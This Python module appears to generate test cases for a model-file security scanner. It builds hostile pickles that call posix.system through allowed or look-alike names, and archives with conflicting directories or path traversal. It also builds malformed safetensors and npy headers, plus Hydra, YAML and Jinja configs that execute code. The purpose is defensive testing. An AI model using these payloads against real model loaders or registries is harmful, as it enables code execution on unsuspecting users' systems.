"""Tricks after the first corpus: allowed names put to other use, two directories, odd documents.

Where a case follows a publication, it is named beside it.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zlib

from registry_gate.testing.hostile import ZipEntry, safetensors_bytes, torch_zip, zip_bytes
from registry_gate.testing.hostile_pickles import pickle_that_would_run, short_text

Files = dict[str, bytes]
_HONEST = b"\x80\x02}."
_HASH = b"ccollections\nOrderedDict\n)R"


def _literal(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def allowed_names(command: str) -> Files:
    """Nothing but names of the allow-list, with arguments that make them do something else."""
    evil = pickle_that_would_run(command)
    storage = (
        b"("
        + short_text("storage")
        + b"ctorch\nFloatStorage\n"
        + short_text("0")
        + short_text("cpu")
        + b"K\x01tQ"
    )
    rebuild = b"ctorch._utils\n_rebuild_tensor_v2\n("
    view = b"K\x00(K\x01t(K\x01t\x89"
    scalar = b"cnumpy.core.multiarray\nscalar\n"
    objects = b"cnumpy\ndtype\n" + short_text("O8") + b"\x89\x88\x87R"
    array = b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"
    state = b"(K\x01K\x01\x85" + objects + b"\x89]" + short_text("x") + b"at"
    files = {
        # numpy hands the bytes of a scalar of objects to pickle.loads
        "scalar-of-objects": b"\x80\x03" + scalar + objects + _literal(evil) + b"\x86R.",
        "array-of-objects": b"\x80\x03" + array + state + b"b.",
        # hooks run when a gradient arrives; a tensor saved with some carries code's names
        "hooks": b"\x80\x02" + rebuild + storage + view + b"}K\x01cposix\nsystem\nstR.",
        "storage-of-a-function": b"\x80\x02"
        + rebuild
        + storage.replace(b"ctorch\nFloatStorage\n", b"cposix\nsystem\n")
        + view
        + _HASH
        + b"tR.",
        "codec": b"\x80\x02c_codecs\nencode\n" + short_text(command) + short_text("os") + b"\x86R.",
        "codec-rot13": b"\x80\x02c_codecs\nencode\n" + short_text(command) + short_text("rot13") + b"\x86R.",
        "reconstructor": b"\x80\x02ccopy_reg\n_reconstructor\ncposix\nsystem\nc__builtin__\nobject\nN\x87R.",
        "load-from-bytes": b"\x80\x03ctorch.storage\n_load_from_bytes\n" + _literal(evil) + b"\x85R.",
        "rebuild-from-type": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n("
        b"cposix\nsystem\nctorch\nTensor\n" + short_text(command) + b"\x85}tR.",
        "parameter-with-state": b"\x80\x02ctorch._utils\n_rebuild_parameter_with_state\n("
        + rebuild
        + storage
        + view
        + _HASH
        + b"tR\x88"
        + _HASH
        + b"}"
        + short_text("__setstate__")
        + b"cposix\nsystem\nstR.",
        "dict-keyed-by-a-call": b"\x80\x02}cposix\nsystem\n" + short_text(command) + b"\x85RNs.",
    }
    return {f"{name}/model.pkl": content for name, content in files.items()}


def names(command: str) -> Files:
    """Names that begin as an allowed one does, or look like one."""
    say, call = short_text(command), b"\x85R."

    def dotted(module: str, name: str) -> bytes:
        return b"\x80\x04" + short_text(module) + short_text(name) + b"\x93" + say + call

    files = {
        "globals-of-an-allowed": dotted("torch._utils", "_rebuild_tensor_v2.__globals__"),
        "method-of-an-allowed": dotted("collections", "OrderedDict.__init__"),
        "subclasses": dotted("collections", "OrderedDict.__class__.__subclasses__"),
        "module-in-the-name": dotted("torch", "_utils._rebuild_tensor_v2"),
        "full-width": dotted("collections", "\uff2frderedDict"),
        "trailing-space": b"ccollections \nOrderedDict\n(V" + command.encode() + b"\ntR.",
        "leading-dot": dotted(".collections", "OrderedDict"),
        "old-name": b"\x80\x02ccommands\ngetoutput\n" + say + call,
        "own-module": dotted("__main__", "run"),
        "memo-overwritten": b"\x80\x02ccollections\nOrderedDict\nq\x000cposix\nsystem\nq\x000h\x00"
        + say
        + call,
        "protocol-twice": b"\x80\x02ccollections\nOrderedDict\n0\x80\x04"
        + short_text("posix")
        + short_text("system")
        + b"\x93"
        + say
        + call,
        "frame-in-a-frame": b"\x80\x04\x95"
        + struct.pack("<Q", 12)
        + b"\x95"
        + struct.pack("<Q", 1000)
        + dotted("posix", "system")[2:],
        "buffer": b"\x80\x05\x97" + say + call,
        "bytearray": b"\x80\x05\x96" + struct.pack("<Q", len(x := pickle_that_would_run(command))) + x + b".",
        "text-of-bytes": b"\x80\x02X" + struct.pack("<I", len(y := _as_text(x))) + y + b".",
        "twice-compressed": b"\x80\x03" + _literal(zlib.compress(zlib.compress(x))) + b".",
    }
    return {f"{name}/model.pkl": content for name, content in files.items()}


def _as_text(data: bytes) -> bytes:
    """Bytes as the latin-1 text that protocol 2 writes them as."""
    return data.decode("latin-1").encode()


def _extra(archive: bytes, field: bytes) -> bytes:
    """The archive's first directory record with an extra field, as if its writer had known more."""
    at, end = archive.rfind(b"PK\x01\x02"), archive.rfind(b"PK\x05\x06")
    at = archive.find(b"PK\x01\x02")
    length = struct.unpack_from("<H", archive, at + 28)[0]
    cut = at + 46 + length
    record = archive[at : at + 30] + struct.pack("<H", len(field)) + archive[at + 32 : cut] + field
    size = struct.unpack_from("<I", archive, end + 12)[0] + len(field)
    tail = archive[end : end + 12] + struct.pack("<I", size) + archive[end + 16 :]
    return archive[:at] + record + archive[cut:end] + tail


def zips(command: str) -> Files:
    """Archives in which two readers find two directories, two names or two sizes."""
    evil, pkl = pickle_that_would_run(command), "archive/data.pkl"
    honest, hostile = torch_zip(_HONEST), torch_zip(evil)
    name = b"archive/weights"
    unicode_path = b"\x01" + struct.pack("<I", zlib.crc32(pkl.encode())) + name
    end = honest.rfind(b"PK\x05\x06")
    comment = honest[: end + 20] + struct.pack("<H", len(hostile)) + hostile
    zip64 = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, 60, 0)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, 0, 1)
    link = bytearray(honest)
    struct.pack_into("<I", link, honest.find(b"PK\x01\x02") + 38, 0o120777 << 16)
    files = {
        "unicode-path": _extra(honest, b"\x75\x70" + struct.pack("<H", len(unicode_path)) + unicode_path),
        "comment-is-an-archive": comment,
        "zip64-elsewhere": honest[:end] + zip64 + locator + honest[end:],
        "link": bytes(link),
        "backslash": zip_bytes([ZipEntry(pkl, _HONEST), ZipEntry("archive\\data.pkl", evil)]),
        "absolute": zip_bytes([ZipEntry("/data.pkl", evil), ZipEntry("/version", b"3\n")]),
        "file-and-folder": zip_bytes([ZipEntry(pkl, _HONEST), ZipEntry(pkl + "/data.pkl", evil)]),
        "dot": zip_bytes([ZipEntry(pkl, _HONEST), ZipEntry("archive/./data.pkl", evil)]),
        "byte-order": torch_zip(_HONEST, {"byteorder": b"middle"}),
        "format-version": torch_zip(_HONEST, {".format_version": evil}),
        "serialization-id": torch_zip(_HONEST, {".data/serialization_id": evil}),
        "storage-is-a-pickle": torch_zip(_HONEST, {"data/0": evil}),
        "memo-bomb": torch_zip(b"\x80\x02}r\xff\xff\xff\xff."),
        "descriptor": zip_bytes([ZipEntry(pkl, evil, flags=8), ZipEntry("archive/version", b"3\n")]),
    }
    return {f"{case}/pytorch_model.bin": content for case, content in files.items()}


def _pax(command: str) -> bytes:
    """A tar whose extended header gives its one member another name."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("notes.txt")
        info.pax_headers = {"path": "../../model.pkl"}
        info.size = len(data := pickle_that_would_run(command))
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def containers(command: str) -> Files:
    """Headers of safetensors, NumPy and tar that honest writers never write."""
    evil = pickle_that_would_run(command)
    entry = '{"dtype":"U8","shape":[4],"data_offsets":[0,4]}'
    headers = {
        "escaped-duplicate": f'{{"a":{entry},"\\u0061":{entry}}}',
        "byte-order-mark": f'\ufeff{{"a":{entry}}}',
        "float-offsets": '{"a":{"dtype":"U8","shape":[4],"data_offsets":[0.0,4.0]}}',
        "true-as-size": '{"a":{"dtype":"U8","shape":[true,4],"data_offsets":[0,4]}}',
        "zeros-behind": f'{{"a":{entry}}}' + "\x00" * 5,
        "path-as-name": f'{{"../../a":{entry},"b":{{"dtype":"U8","shape":[0],"data_offsets":[9,9]}}}}',
        "empty-beyond": f'{{"a":{entry},"b":{{"dtype":"U8","shape":[0],"data_offsets":[2,2]}}}}',
        "not-a-number": f'{{"__metadata__":{{"a":NaN}},"a":{entry}}}',
    }
    files = {
        f"safetensors-{name}/model.safetensors": safetensors_bytes(header.encode(), bytes(4))
        for name, header in headers.items()
    }
    array = b"{'descr': ('|O', (2,)), 'fortran_order': False, 'shape': (1,), }\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(array)) + array + evil
    return files | {
        "objects-in-a-sub-array/a.npy": npy,
        "pickle-in-npz/a.npz": zip_bytes([ZipEntry("a.npy", evil)]),
        "array-twice/a.npz": zip_bytes([ZipEntry("a.npy", npy), ZipEntry("a.npy", npy)]),
        "pax-name/model.tar": _pax(command),
        "tar-in-gzip-as-checkpoint/model.ckpt": gzip.compress(_pax(command), mtime=0),
    }


def documents(command: str) -> Files:
    """Configurations that ask for code in another spelling."""
    escaped = '{"\\u0061uto_map": {"AutoModel": "modeling_x.Model"}}'
    target = {"model": {"_target_": "os.system", "command": command}}
    sandboxed = "{{ lipsum.__globals__['os'].popen('true').read() }}"
    return {
        "escaped-key/config.json": escaped.encode(),
        "nested-key/config.json": json.dumps({"text_config": {"auto_map": {"A": "x.M"}}}).encode(),
        "byte-order-mark/config.json": b"\xef\xbb\xbf" + escaped.encode(),
        # CVE-2025-23304 and others: Hydra calls what "_target_" names
        "target-in-json/config.json": json.dumps(target).encode(),
        "target-in-yaml/model_config.yaml": f"model:\n  _target_: os.system\n  command: {command}\n".encode(),
        "verbatim-tag/config.yaml": b"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "tag-prefix/config.yaml": b"%TAG !p! tag:yaml.org,2002:python/\n---\n"
        b"a: !p!object/apply:os.system ['true']\n",
        "escaped-target/config.yaml": b'a: {"\\x5ftarget_": "builtins.exec", _args_: ["1"]}\n',
        "escaped-tag/config.yaml": b"a: !!pyth%6fn/object/apply:os.system ['true']\n",
        "lipsum/chat_template.jinja": sandboxed.encode(),
        "attr-filter/tokenizer_config.json": json.dumps(
            {"chat_template": "{{ ''|attr('__cla' ~ 'ss__') }}"}
        ).encode(),
        "template-list/tokenizer_config.json": json.dumps(
            {"chat_template": [{"name": "tool_use", "template": sandboxed}]}
        ).encode(),
    }


FAMILIES = {
    "allowed-names": allowed_names,
    "look-alike-names": names,
    "two-directories": zips,
    "odd-headers": containers,
    "odd-documents": documents,
}
